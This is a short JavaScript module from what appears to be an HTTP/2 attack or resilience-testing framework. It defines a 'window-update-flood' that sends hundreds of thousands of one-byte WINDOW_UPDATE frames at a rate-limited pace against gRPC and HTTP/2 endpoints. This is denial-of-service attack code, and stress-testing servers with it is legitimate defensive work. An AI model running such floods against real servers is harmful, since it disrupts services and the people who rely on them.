import { BOUND_MIB } from "../attack.js";
import { repeated, windowUpdate } from "../raw/frames.js";
import { linkAttack } from "./link.js";

export const windowUpdateFlood = linkAttack({
  name: "window-update-flood",
  shortPlaces: ["grpc"],
  description: "WINDOW_UPDATE frames of one byte by the hundred thousand",
  boundMiB: BOUND_MIB,
  async onLink({ socket, stream, role }, work) {
    const both = Buffer.concat([windowUpdate(0, 1), windowUpdate(role === "stranger" ? 0 : stream, 1)]);
    await work.flood(socket, repeated(both, 500), { times: 1000, perSecond: 500 });
  },
});
